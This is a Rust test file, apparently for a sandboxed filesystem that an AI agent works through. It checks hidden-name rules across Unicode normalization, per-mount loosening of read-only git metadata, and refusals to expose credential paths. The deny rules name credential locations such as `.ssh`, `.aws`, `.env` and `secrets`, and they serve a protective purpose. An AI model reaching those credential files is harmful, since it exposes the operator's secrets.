        agent.move_path("/p/a/m", "/p/a/k", &Precondition::Any, &Precondition::Absent).unwrap();
        assert_eq!(
            agent.read_text("/p/a/k/n/b", &ReadWindow::default()).unwrap_err().to_string(),
            missing("/p/a/k/n/b")
        );
    }
}

#[test]
fn double_stars_hide_subtrees_on_a_local_tree() {
    let fixture = Fixture::new();
    seed_deep(&|relative, content| {
        fixture.file(&format!("p/{relative}"), content);
    });
    let registry = deep_registry(&fixture.path("p").display().to_string());
    double_stars_hold(&registry.agent(), true);
    assert_eq!(fixture.read("p/notes/x/y"), SECRET);
    assert_eq!(fixture.read("p/a/k/n/b"), SECRET);
    assert_eq!(fixture.read("p/docs/sub/b.md"), "# b\n");
}

#[cfg(feature = "s3")]
#[test]
fn double_stars_hide_subtrees_on_memory_storage() {
    let location = format!("memory://deep-{}", std::process::id());
    let seeding = seed_object_store(&location, seed_deep);
    double_stars_hold(&deep_registry(&location).agent(), false);
    let raw = seeding.agent();
    assert_eq!(raw.read_text("/p/notes/x/y", &ReadWindow::default()).unwrap().content, SECRET);
}

// Unicode normalization: a rule and a name meet in NFC, whichever form each is written in.

const NFC_CAFE: &str = "caf\u{e9}";
const NFD_CAFE: &str = "cafe\u{301}";
const NFC_MENU: &str = "m\u{e9}nu.txt";
const NFD_MENU: &str = "me\u{301}nu.txt";

/// The disk holds `disk_cafe/x.txt` and `docs/disk_menu`; the rules are written `rule_cafe`
/// (`--hide`) and `docs/rule_menu` (the mount string). Neither is visible in any spelling.
fn names_meet_in_nfc(rule_cafe: &str, rule_menu: &str, disk_cafe: &str, disk_menu: &str) {
    let fixture = Fixture::new();
    fixture.file(&format!("p/{disk_cafe}/x.txt"), SECRET);
    fixture.file(&format!("p/docs/{disk_menu}"), SECRET);
    fixture.file("p/docs/open.txt", "open\n");
    let spec = format!("{}:/p:rw;docs/{rule_menu}:hidden", fixture.path("p").display());
    let registry = MountRegistry::builder()
        .mount(spec.parse().unwrap())
        .name_rules([NameRule::hide(rule_cafe, "--hide")])
        .build(vfs::ambient_authority())
        .unwrap();
    let agent = registry.agent();
    let mut hidden = Vec::new();
    for (cafe, menu) in [(NFC_CAFE, NFC_MENU), (NFD_CAFE, NFD_MENU)] {
        hidden.push(format!("/p/{cafe}"));
        hidden.push(format!("/p/{cafe}/x.txt"));
        hidden.push(format!("/p/docs/{menu}"));
    }
    let pairs: Vec<(&str, &str)> = hidden.iter().map(|path| (path.as_str(), path.as_str())).collect();
    every_tool_finds_nothing(&agent, &pairs);
    let names =
        |path: &str| -> Vec<String> { agent.list(path).unwrap().entries.into_iter().map(|entry| entry.name).collect() };
    assert_eq!(names("/p"), ["docs"]);
    assert_eq!(names("/p/docs"), ["open.txt"]);
    let found = agent.search_files("/p", "*", &[]).unwrap();
    let paths: Vec<&str> = found.matches.iter().map(vfs::VirtualPath::as_str).collect();
    assert_eq!(paths, ["/p/docs", "/p/docs/open.txt"]);
    let request = GrepRequest { pattern: SECRET.to_owned(), path: Some("/p".to_owned()), ..GrepRequest::default() };
    let grep = agent.grep(&request).unwrap();
    assert_eq!((grep.matches, grep.files_searched), (0, 1), "{}", grep.to_text());
    // On this (Linux) disk the other form is another name; creating it is refused all the same,
    // as on a disk that takes both forms for one name.
    for cafe in [NFC_CAFE, NFD_CAFE] {
        let path = format!("/p/{cafe}/new.txt");
        let expected = format!("cannot create `{path}`: names like this are hidden (names the operator hides)");
        assert_eq!(agent.write(&path, "x", &OVERWRITE).unwrap_err().to_string(), expected);
    }
    assert_eq!(fixture.read(&format!("p/{disk_cafe}/x.txt")), SECRET);
}

#[test]
fn an_nfd_name_on_disk_meets_a_rule_written_in_nfc() {
    names_meet_in_nfc(NFC_CAFE, NFC_MENU, NFD_CAFE, NFD_MENU);
}

#[test]
fn an_nfc_name_on_disk_meets_a_rule_written_in_nfd() {
    names_meet_in_nfc(NFD_CAFE, NFD_MENU, NFC_CAFE, NFC_MENU);
}

#[test]
fn an_override_protects_every_normalization_of_its_name() {
    let fixture = Fixture::new();
    fixture.file(&format!("p/{NFD_CAFE}/x.txt"), "x\n");
    let spec = format!("{}:/p:rw;{NFC_CAFE}:ro", fixture.path("p").display());
    let registry = MountRegistry::builder().mount(spec.parse().unwrap()).build(vfs::ambient_authority()).unwrap();
    let path = format!("/p/{NFD_CAFE}/x.txt");
    assert_eq!(
        registry.agent().write(&path, "y", &OVERWRITE).unwrap_err().to_string(),
        format!("cannot write `{path}`: `/p/{NFC_CAFE}` is mounted ro; mounts that grant write: `/p` (rw)")
    );
}

// Loosening: an override that grants writes where a read-only default rule holds (`;.git:rw`)
// lifts that rule there, in that mount only; a hidden name cannot be loosened.

fn loosened_registry(fixture: &Fixture, p_spec: &str) -> Result<MountRegistry, vfs::ConfigError> {
    fixture.file("p/.git/config", "[core]\n");
    fixture.file("p/.git/.env", SECRET);
    fixture.file("p/vendor/lib/.git/config", "[core]\n");
    fixture.file("q/.git/config", "[core]\n");
    MountRegistry::builder()
        .mount(format!("{}:/p:{p_spec}", fixture.path("p").display()).parse().unwrap())
        .mount(format!("{}:/q:rw", fixture.path("q").display()).parse().unwrap())
        .name_rules(NameRule::defaults())
        .name_rules([NameRule::hide("secrets", "--hide")])
        .build(vfs::ambient_authority())
}

#[test]
fn an_override_loosens_the_git_rule_at_its_place_in_its_mount() {
    let fixture = Fixture::new();
    let registry = loosened_registry(&fixture, "rw;.git:rw").unwrap();
    let agent = registry.agent();
    agent.write("/p/.git/hooks/pre-commit", "#!/bin/sh\n", &OVERWRITE).unwrap();
    agent.write("/p/.git/config", "[core]\n\tbare = false\n", &OVERWRITE).unwrap();
    agent
        .move_path("/p/.git/hooks/pre-commit", "/p/.git/hooks/pre-push", &Precondition::Any, &Precondition::Absent)
        .unwrap();
    agent.delete("/p/.git/hooks", true, &Precondition::Any).unwrap();
    assert_eq!(fixture.read("p/.git/config"), "[core]\n\tbare = false\n");
    // Hidden names inside stay hidden, and other `.git` directories stay read-only: another
    // repository in the mount, the other mount's, and another spelling of the place.
    assert_eq!(
        agent.read_text("/p/.git/.env", &ReadWindow::default()).unwrap_err().to_string(),
        missing("/p/.git/.env")
    );
    for path in ["/p/vendor/lib/.git/config", "/q/.git/config"] {
        let scope = path.strip_suffix("/config").unwrap();
        assert_eq!(
            agent.write(path, "x", &OVERWRITE).unwrap_err().to_string(),
            format!("cannot write `{path}`: `{scope}` is read-only (git metadata)")
        );
    }
    assert_eq!(
        agent.write("/p/.GIT/config", "x", &OVERWRITE).unwrap_err().to_string(),
        "cannot write `/p/.GIT/config`: `/p/.GIT` is read-only (git metadata)"
    );
    let loosened: Vec<(&str, &str, &str, vfs::Rights, &str)> = registry
        .loosened_rules()
        .iter()
        .map(|item| (item.place.as_str(), item.glob.as_str(), item.class.as_str(), item.rights, item.origin.as_str()))
        .collect();
    assert_eq!(
        loosened,
        [("/p/.git", ".git", "git metadata", vfs::Rights::ReadWrite, "loosened by the mount string of /p")]
    );
    assert!(
        registry.prompt_table().ends_with("you may read but not change git metadata (except in `/p/.git`).\n"),
        "{}",
        registry.prompt_table()
    );
}

#[test]
fn a_loosening_below_the_rule_lifts_it_below_its_place_only() {
    let fixture = Fixture::new();
    let registry = loosened_registry(&fixture, "ro;.git/objects:rwnd").unwrap();
    let agent = registry.agent();
    agent.write("/p/.git/objects/ab/cdef", "blob\n", &OVERWRITE).unwrap();
    assert_eq!(
        agent.delete("/p/.git/objects/ab/cdef", false, &Precondition::Any).unwrap_err().to_string(),
        "cannot delete `/p/.git/objects/ab/cdef`: `/p/.git/objects` is mounted rwnd; mounts that grant delete: `/q` (rw)"
    );
    assert_eq!(
        agent.write("/p/.git/config", "x", &OVERWRITE).unwrap_err().to_string(),
        "cannot write `/p/.git/config`: `/p/.git` is read-only (git metadata)"
    );
    // The mount string's own rules still hold on top of a loosening.
    let fixture = Fixture::new();
    let registry = loosened_registry(&fixture, "rw;.git:rw;.git/hooks/**:ro").unwrap();
    assert_eq!(
        registry.agent().write("/p/.git/hooks/pre-commit", "x", &OVERWRITE).unwrap_err().to_string(),
        "cannot write `/p/.git/hooks/pre-commit`: `/p/.git/hooks` is read-only (paths the operator keeps read-only)"
    );
    registry.agent().write("/p/.git/config", "x", &OVERWRITE).unwrap();
    // A read-only override loosens nothing.
    let fixture = Fixture::new();
    let registry = loosened_registry(&fixture, "rw;.git:ro").unwrap();
    assert!(registry.loosened_rules().is_empty());
}

#[test]
fn a_hidden_name_cannot_be_loosened() {
    for (spec, text) in [
        (
            "rw;.ssh:rw",
            "the override `.ssh:rw` of mount `/p` lies inside `/p/.ssh`, which the name rule `.ssh` (default) hides: a hidden name cannot be loosened",
        ),
        (
            "ro;home/.aws/config:rwnd",
            "the override `home/.aws/config:rwnd` of mount `/p` lies inside `/p/home/.aws`, which the name rule `.aws` (default) hides: a hidden name cannot be loosened",
        ),
        (
            "rw;.git/.env:rw",
            "the override `.git/.env:rw` of mount `/p` lies inside `/p/.git/.env`, which the name rule `.env` (default) hides: a hidden name cannot be loosened",
        ),
        (
            "rw;deploy/secrets:rw",
            "the override `deploy/secrets:rw` of mount `/p` lies inside `/p/deploy/secrets`, which the name rule `secrets` (--hide) hides: a hidden name cannot be loosened",
        ),
    ] {
        let fixture = Fixture::new();
        let error = loosened_registry(&fixture, spec).unwrap_err();
        assert_eq!(error.to_string(), text);
        assert!(error.hint().starts_with("drop the override"), "{}", error.hint());
    }
    // A read-only override inside a hidden name takes nothing away that is not gone already.
    let fixture = Fixture::new();
    assert!(loosened_registry(&fixture, "rw;.ssh:ro").is_ok());
}

/// Across mounts, a rule of the destination's that the source's mount does not have: a
/// directory holding `a.secret` may not move to where `**/*.secret` is hidden, though the name
/// is an ordinary one where it was written.
#[test]
fn a_directory_move_into_another_mounts_rule_is_refused() {
    let fixture = Fixture::new();
    fixture.file("w/d/a.secret", "mine\n");
    fixture.file("w/e/a.txt", "plain\n");
    fixture.mkdir("v");
    let registry = MountRegistry::builder()
        .mount(format!("{}:/w:rw", fixture.path("w").display()).parse().unwrap())
        .mount(format!("{}:/v:rw;**/*.secret:hidden", fixture.path("v").display()).parse().unwrap())
        .build(vfs::ambient_authority())
        .unwrap();
    let agent = registry.agent();
    let refused = agent.move_path("/w/d", "/v/d", &Precondition::Any, &Precondition::Absent).unwrap_err();
    assert_eq!(
        refused.to_string(),
        "cannot move `/w/d` to `/v/d`: files in it would land on names the operator hides there, which are hidden from you"
    );
    assert_eq!(fixture.read("w/d/a.secret"), "mine\n");
    assert!(!fixture.path("v/d").exists());
    agent.move_path("/w/e", "/v/e", &Precondition::Any, &Precondition::Absent).unwrap();
    assert_eq!(fixture.read("v/e/a.txt"), "plain\n");
}
